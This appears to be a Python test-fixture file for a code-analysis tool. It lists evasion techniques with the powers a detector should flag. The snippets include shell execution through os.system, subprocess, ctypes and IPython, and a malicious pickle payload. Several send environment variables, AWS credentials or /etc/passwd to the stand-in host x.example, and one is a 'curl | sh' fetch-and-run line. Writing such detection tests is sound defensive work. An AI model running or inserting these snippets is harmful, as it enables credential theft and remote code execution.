"""The rows that are about what is done: each does it with its own function."""

from tests.analyse.evasions.carrying import (
    FORK_REST,
    by_c_library,
    by_coroutine,
    by_fork,
    by_magic,
    by_notebook,
    by_run,
    by_spawn,
    by_system,
    evaluate,
    process,
    unpickle,
)
from tests.analyse.evasions.recipe import Carry, Deed, Power, Program, Step, Technique, power

SHELL = power("process.shell", "os.system", command="id")
PROGRAM = power("process.spawn", "id", command=("id",))
SYSTEM = Deed("os", "system", '"id"', (SHELL, PROGRAM))


def flow(source: str, sink: str, **roles: object) -> Power:
    return power("flow", f"{source} → {sink}", **roles)


INPUT = (
    power("user.input", "builtins.input"),
    power("code.execute", "builtins.eval"),
    flow("builtins.input", "builtins.eval"),
    power("unresolved.code", "code"),
)
ENVIRONMENT = (
    power("env.read", "os.environ"),
    power("network.connect", "requests.post", host="x.example", url="https://x.example/c"),
    flow("os.environ", "requests.post", host="x.example"),
)
CREDENTIALS = (
    power("fs.read", "builtins.open", path="/root/.aws/credentials"),
    power("network.connect", "pandas.read_csv", host="x.example"),
    flow("builtins.open", "pandas.read_csv", host="x.example"),
)
PROC = (
    power("fs.read", "builtins.open", path="/proc/self/environ", mode="rb"),
    power("network.connect", "urllib.request.urlopen", host="x.example"),
    flow("builtins.open", "urllib.request.urlopen", host="x.example"),
)
SOCKET = (
    power("fs.read", "builtins.open", path="/etc/passwd", mode="rb"),
    power("network.connect", "socket.create_connection", host="x.example", port=443),
    flow("builtins.open", "socket.socket.sendall", host="x.example"),
)
LOOKUP = (
    power("fs.read", "builtins.open", path="/etc/hostname"),
    power("network.resolve", "socket.gethostbyname"),
    flow("builtins.open", "socket.gethostbyname"),
)
PICKLE = b"cos\nsystem\n(S'id'\ntR."
FORK = (power("process.spawn", "_posixsubprocess.fork_exec", command=(b"id",)), PROGRAM)
POSIX_SPAWN = (
    power("process.spawn", "os.posix_spawn", path="/bin/sh", command=("sh", "-c", "id")),
    power("process.shell", "sh", command="id"),
    PROGRAM,
)
MAGIC = (
    power("process.shell", "IPython.InteractiveShell.system", command="curl https://x.example/s | sh"),
    power("network.connect", "curl", url="https://x.example/s", host="x.example"),
    power("process.shell", "sh"),
)
NOTEBOOK = (power("process.shell", "IPython.InteractiveShell.system", command="id"), PROGRAM)


def _sent(arguments: str) -> str:
    return f'"https://x.example{arguments}'


def _does(identifier: str, title: str, deed: Deed, carry: Carry | None = None) -> Technique:
    return Technique(identifier, title, Step.DEED, deed=deed, carry=carry)


DEEDS = (
    _does("C1", "os.system", SYSTEM, process(by_system)),
    _does(
        "C2",
        "subprocess.run with a shell",
        Deed(
            "subprocess",
            "run",
            '"id", shell=True',
            (power("process.shell", "subprocess.run", command="id", shell=True), PROGRAM),
        ),
        process(by_run),
    ),
    _does(
        "C3", "eval of what is typed", Deed("builtins", "eval", "typed", INPUT, before="typed = input()\n"), evaluate
    ),
    _does(
        "C4",
        "the environment posted",
        Deed("requests", "post", _sent('/c", data=dict(os.environ)'), ENVIRONMENT, before="import os\n"),
    ),
    _does(
        "30",
        "pickle that carries a call",
        Deed(
            "pickle",
            "loads",
            "data",
            (power("code.deserialize", "pickle.loads", data=PICKLE), SHELL, PROGRAM),
            before=f"data = {PICKLE!r}\n",
        ),
        unpickle,
    ),
    _does(
        "31",
        "the C library",
        Deed(
            "ctypes",
            "CDLL",
            "None",
            (power("native.load", "ctypes.CDLL"), power("process.shell", "ctypes.CDLL.system", command=b"id"), PROGRAM),
            around='{}.system(b"id")',
        ),
        process(by_c_library),
    ),
    _does(
        "33",
        "pandas.eval",
        Deed(
            "pandas",
            "eval",
            "\"@pd.io.common.os.system('id')\"",
            (power("code.execute", "pandas.eval", expression="@pd.io.common.os.system('id')"),),
            before="import pandas as pd\n",
        ),
    ),
    _does(
        "34",
        "a secret in the address of a table",
        Deed(
            "pandas",
            "read_csv",
            _sent('/?k=" + key'),
            CREDENTIALS,
            before='key = open("/root/.aws/credentials").read()\n',
        ),
    ),
    _does(
        "36",
        "the environment through /proc",
        Deed("urllib.request", "urlopen", _sent('", data=open("/proc/self/environ", "rb").read()'), PROC),
    ),
    _does(
        "50",
        "asyncio subprocess",
        Deed(
            "asyncio",
            "create_subprocess_shell",
            '"id"',
            (power("process.shell", "asyncio.create_subprocess_shell", command="id"), PROGRAM),
            around="asyncio.run({})",
            before="import asyncio\n",
        ),
        process(by_coroutine),
    ),
    _does(
        "51",
        "posix_spawn",
        Deed("os", "posix_spawn", '"/bin/sh", ["sh", "-c", "id"], dict()', POSIX_SPAWN),
        process(by_spawn, words=True),
    ),
    _does(
        "52",
        "what lies below subprocess",
        Deed("_posixsubprocess", "fork_exec", f'[b"id"], [b"/usr/bin/id"], {FORK_REST}', FORK),
        process(by_fork, words=True),
    ),
    _does(
        "56",
        "a file over a socket",
        Deed(
            "socket",
            "create_connection",
            '("x.example", 443)',
            SOCKET,
            around='{}.sendall(open("/etc/passwd", "rb").read())',
        ),
    ),
    _does(
        "57",
        "a file over the name service",
        Deed(
            "socket",
            "gethostbyname",
            'kept.strip() + ".x.example"',
            LOOKUP,
            before='kept = open("/etc/hostname").read()\n',
        ),
    ),
    Technique(
        "29",
        "str.format walks attributes",
        Step.DEED,
        whole=Program(
            'def start(): pass\nprint("{0.__globals__[__builtins__]}".format(start))\n',
            (power("introspect.walk", "__globals__"),),
        ),
    ),
    Technique(
        "37",
        "IPython magic",
        Step.DEED,
        whole=Program('!curl https://x.example/s | sh\nprint("fetched")\n', MAGIC, cells=True),
        carry=process(by_magic, cells=True),
    ),
    Technique(
        "38",
        "the running IPython",
        Step.DEED,
        whole=Program('get_ipython().system("id")\n', NOTEBOOK),
        carry=process(by_notebook),
    ),
)
